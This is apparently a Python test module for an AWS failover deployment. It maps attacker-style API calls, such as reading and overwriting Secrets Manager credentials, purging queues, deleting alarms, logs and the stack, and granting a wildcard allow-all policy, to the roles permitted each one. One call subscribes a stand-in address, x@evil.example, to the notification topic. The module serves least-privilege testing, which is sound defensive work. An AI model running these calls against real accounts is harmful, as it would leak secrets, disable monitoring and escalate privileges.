"""What somebody tries who has the credentials of one role of the deployment, and what each role may.

A call is a service, and what is asked of its client; `it` is the deployment.
"""

import json

from parts import command

KEY = {"pk": {"S": "*"}, "sk": {"S": "state#fleet"}}
ITEM = {**KEY, "sk": {"S": "made up"}}
ANYBODY = {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
POLICY = json.dumps({"Version": "2012-10-17", "Statement": [ANYBODY]})
OWN_USER = "somebody"


def _invoke(logical_id, payload, **how):
    return "lambda", lambda it, client: client.invoke(
        FunctionName=it.physical_id(logical_id), Payload=json.dumps(payload), **how
    )


def _start(output):
    return "stepfunctions", lambda it, client: client.start_execution(
        stateMachineArn=it.outputs[output], input=json.dumps(command())
    )


def _publish(output):
    return "sns", lambda it, client: client.publish(TopicArn=it.outputs[output], Message="x")


def _send(logical_id):
    return "sqs", lambda it, client: client.send_message(
        QueueUrl=it.physical_id(logical_id), MessageBody="{}"
    )


def _take(logical_id):
    return "sqs", lambda it, client: client.receive_message(QueueUrl=it.physical_id(logical_id))


def _pair(it):
    return f"{it.outputs['PairsParameterPath']}/analytics"


def _schedule(it, client):
    group, name = it.physical_id("ScheduleGroup"), it.physical_id("ReconcileSchedule")
    client.delete_schedule(Name=name, GroupName=group)


CALLS = {
    # have it fail over, or say so
    "send the function a command": _invoke("FailoverFunction", {"command": "status"}),
    "have it ordered later": _invoke("FailoverFunction", {"command": "status"}, InvocationType="Event"),
    "ask the dashboard": _invoke("DashboardFunction", {}),
    "speak as SMN's function": _invoke("SmnFunction", {}),
    "start a failover": _start("FailoverStateMachineArn"),
    "start a fleet": _start("FleetStateMachineArn"),
    "look": ("stepfunctions", lambda it, client: client.start_sync_execution(
        stateMachineArn=it.outputs["ViewStateMachineArn"], input='{"command": "status"}')),
    "put an alarm into SMN's queue": _send("SmnQueue"),
    "put an alarm on the bus": ("events", lambda _, client: client.put_events(
        Entries=[{"Source": "custom", "DetailType": "x", "Detail": "{}"}])),
    "let an alarm ring": ("cloudwatch", lambda _, client: client.set_alarm_state(
        AlarmName="x", StateValue="ALARM", StateReason="x")),
    "make an alarm": ("cloudwatch", lambda it, client: client.put_metric_alarm(
        AlarmName=f"{it.stack}-outage-x", MetricName="x", Namespace="x", Statistic="Sum", Period=60, EvaluationPeriods=1,
        Threshold=1, ComparisonOperator="LessThanThreshold")),
    # change what is judged by
    "read the table": ("dynamodb", lambda it, client: client.get_item(TableName=it.outputs["RunsTableName"], Key=KEY)),
    "read the whole table": ("dynamodb", lambda it, client: client.scan(TableName=it.outputs["RunsTableName"])),
    "write into the table": ("dynamodb", lambda it, client: client.put_item(TableName=it.outputs["RunsTableName"], Item=ITEM)),
    "delete a run": ("dynamodb", lambda it, client: client.delete_item(
        TableName=it.outputs["RunsTableName"], Key={"pk": {"S": it.emulator.pair.id}, "sk": {"S": "run#x"}})),
    "delete the table": ("dynamodb", lambda it, client: client.delete_table(TableName=it.outputs["RunsTableName"])),
    "read the pairs": ("ssm", lambda it, client: client.get_parameters_by_path(Path=it.outputs["PairsParameterPath"])),
    "change a pair": ("ssm", lambda it, client: client.put_parameter(Name=_pair(it), Value="{}", Overwrite=True)),
    "delete a pair": ("ssm", lambda it, client: client.delete_parameter(Name=_pair(it))),
    "change the code": ("lambda", lambda it, client: client.update_function_code(
        FunctionName=it.physical_id("FailoverFunction"), ZipFile=b"x")),
    "change the settings": ("lambda", lambda it, client: client.update_function_configuration(
        FunctionName=it.physical_id("FailoverFunction"), Description="x")),
    "read the settings": ("lambda", lambda it, client: client.get_function_configuration(
        FunctionName=it.physical_id("FailoverFunction"))),
    "let somebody else invoke": ("lambda", lambda it, client: client.add_permission(
        FunctionName=it.physical_id("FailoverFunction"), StatementId="x", Action="lambda:InvokeFunction", Principal="*")),
    # keep it from failing over, or from being heard
    "switch the schedule off": ("scheduler", _schedule),
    "take an alarm out of SMN's queue": _take("SmnQueue"),
    "empty SMN's queue": ("sqs", lambda it, client: client.purge_queue(QueueUrl=it.physical_id("SmnQueue"))),
    "take a failed event": _take("FailedEventsQueue"),
    "fill the failure queue": _send("FailedEventsQueue"),
    "silence an alarm": ("cloudwatch", lambda it, client: client.delete_alarms(AlarmNames=[f"/{it.stack}/reconcile-missing"])),
    "switch a rule off": ("events", lambda it, client: client.disable_rule(Name=it.physical_id("FailoverFunctionAlarm"))),
    "stop an execution": ("stepfunctions", lambda it, client: client.stop_execution(
        executionArn=it.outputs["FailoverStateMachineArn"].replace(":stateMachine:", ":execution:") + ":x")),
    "delete the stack": ("cloudformation", lambda it, client: client.delete_stack(StackName=it.stack)),
    # learn a secret
    "read the credentials": ("secretsmanager", lambda it, client: client.get_secret_value(SecretId=it.secret)),
    "change the credentials": ("secretsmanager", lambda it, client: client.put_secret_value(SecretId=it.secret, SecretString="{}")),
    "read somebody else's secret": ("secretsmanager", lambda _, client: client.get_secret_value(SecretId="somebody-else/credentials")),
    "read the log": ("logs", lambda it, client: client.filter_log_events(logGroupName=it.physical_id("FailoverLogGroup"))),
    "delete the log": ("logs", lambda it, client: client.delete_log_group(logGroupName=it.physical_id("FailoverLogGroup"))),
    # mislead a person
    "publish a notice": _publish("NotificationTopicArn"),
    "publish an alarm of the function's own": _publish("OperationsTopicArn"),
    "hear the notices": ("sns", lambda it, client: client.subscribe(
        TopicArn=it.outputs["NotificationTopicArn"], Protocol="email", Endpoint="x@evil.example")),
    "see who hears them": ("sns", lambda it, client: client.list_subscriptions_by_topic(TopicArn=it.outputs["NotificationTopicArn"])),
    "open the topic to anybody": ("sns", lambda it, client: client.set_topic_attributes(
        TopicArn=it.outputs["NotificationTopicArn"], AttributeName="Policy", AttributeValue=POLICY)),
    # reach something else
    "make a key": ("iam", lambda _, client: client.create_access_key(UserName=OWN_USER)),
    "widen its own rights": ("iam", lambda it, client: client.put_role_policy(
        RoleName=it.physical_id("FailoverRole"), PolicyName="x", PolicyDocument=POLICY)),
    "invoke another function": ("lambda", lambda _, client: client.invoke(FunctionName="somebody-elses")),
    "read another stack's pairs": ("ssm", lambda _, client: client.get_parameters_by_path(Path="/dws-failover/other/pairs")),
    "read another table": ("dynamodb", lambda _, client: client.get_item(TableName="somebody-elses", Key=KEY)),
    "list the queues": ("sqs", lambda _, client: client.list_queues()),
    "list the buckets": ("s3", lambda _, client: client.list_buckets()),
}  # fmt: skip

_INVOKES = {"send the function a command", "have it ordered later"}
_READS = {"read the table", "read the pairs"}
_EXAMINES = {"read the pairs", "read the settings", "look", "ask the dashboard"}

# By the logical id of a role, or of a policy for people.
MAY = {
    "FailoverRole": _INVOKES | _READS | {
        "write into the table", "read the credentials", "publish a notice", "fill the failure queue",
        "take an alarm out of SMN's queue",
    },
    "SmnRole": {"put an alarm into SMN's queue"},
    "DashboardRole": _READS | {"look"},
    "ReconcileScheduleRole": _INVOKES,
    "RehearsalScheduleRole": _INVOKES,
    "FailoverStateMachineRole": _INVOKES,
    "FleetStateMachineRole": _INVOKES | {"start a failover", "stop an execution", "publish a notice"},
    "ViewerPolicy": _EXAMINES,
    "OperatorPolicy": _EXAMINES | _INVOKES | {
        "start a failover", "start a fleet", "stop an execution", "see who hears them",
    },
}  # fmt: skip
